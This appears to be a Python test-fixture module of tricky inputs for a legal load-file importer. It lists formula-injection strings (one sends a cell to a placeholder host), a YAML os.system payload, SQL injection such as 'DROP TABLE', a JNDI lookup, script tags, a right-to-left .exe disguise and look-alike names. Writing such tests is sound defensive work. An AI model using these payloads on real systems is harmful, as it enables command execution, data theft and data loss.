"""Values that other programs take for something else than text, and names that differ by nearly nothing.

What becomes of each stands in docs/load-files.md: it is kept byte for byte, or the row comes back with a reason.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

FORMULAS = (
    *("=cmd|'/C calc'!A0", '=HYPERLINK("http://x.invalid?"&A1;"x")', "+1+1", "-2+3", "@SUM(A1)", "=1+1;=2+2"),
    *("\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠A1"),
)
YAML = (
    *("--- !!python/object/apply:os.system ['true']", "&a *a", "{a: b}", "[1, 2]", "- x", "? y", "| z", "> z"),
    *("%YAML 1.1", "...", "---", "null", "~", "true", "0x1F", "1e5", "'", '"', "'''", '\\"', "#x", ": ", "a: b", "!!x"),
)
SQL = (
    *("'; DROP TABLE exhibits; -- ", "' OR '1'='1", "\\", "\\'", "\\\\", "%", "_", "%s", "%(id)s", ":id", "?", "`x`"),
    *("/* x */", "x' --", "$1", "\\0", "\\Z", "1); DELETE FROM imports; --", "{{7*7}}", "${jndi:x}", "<script>"),
)
PROTOTYPES = (
    *("__class__", "__proto__", "constructor", "toString", "hasOwnProperty", "__init__", "prototype", "valueOf"),
    *("__dict__", "self", "None", "undefined", "NaN", "id", "length", "items", "keys", "version", "metadata"),
)
# Nothing to see, or not where it is: NULs, controls, marks of direction, joiners, spaces of other kinds, what is not
# character, and one letter under many accents.
INVISIBLE = (
    *("a\0b", "\0", "a\0", "\x01", "\x1b[31mred", "\x7f", "a\x85b", "a\u2028b", "a\u2029b", "\u202etxt.exe\u202c"),
    *("\u2066x\u2069", "\u200e", "\u200b", "a\u200db", "\ufeffx", "\u00ada", "\u3164", "\u00a0x\u00a0", "\u2003"),
    *("\uffff", "\ufffe", "\ufdd0", "\ufffd", "e" + "\u0301" * 60, "\u0000\u0301", "ﷺ", "ﬀ", "ǆ", "İi", "ſ", "ß"),
)
BEYOND = ("😀", "a\U0001f600", "\U000e0041", "\U0010ffff", "𝕬")
VALUES = (*FORMULAS, *YAML, *SQL, *PROTOTYPES, *INVISIBLE)

ALIKE = (
    *(("Ann", "ANN"), ("Ann", "Änn"), ("Ann", "ann "), ("Ann", " Ann"), ("Ann", "Ａｎｎ"), ("Ann", "Ann\u00a0")),
    *(("Ann", "Ann\0"), ("Ann", "An\u200bn"), ("Ann", "Anñ"), ("Strasse", "Straße"), ("é", "e\u0301"), ("ﬀ", "ff")),
    *(("Ann", "Αnn"), ("I", "ı"), ("ss", "ß"), ("1", "１"), ("1", "¹"), ("a-b", "a\u2011b"), ("a b", "ab")),
    *(("Ann", "\u202eAnn"), ("__proto__", "__PROTO__"), ("K", "\u212a"), ("カ", "か")),
)

# Names of columns that are no fields; the first is the id's.
FIELDS = (
    *("Control Number", "Begin Bates", "End Bates", "Parent ID", "Custodian", "Title", "File Name"),
    *("Document Date", "Tags", "Native Path", "Text Path", "Body"),
)


def table(rows: Iterable[Sequence[str]]) -> bytes:
    """A CSV file of these rows, every cell in quotes."""
    text = io.StringIO()
    csv.writer(text, quoting=csv.QUOTE_ALL, lineterminator="\n").writerows(rows)
    return text.getvalue().encode()
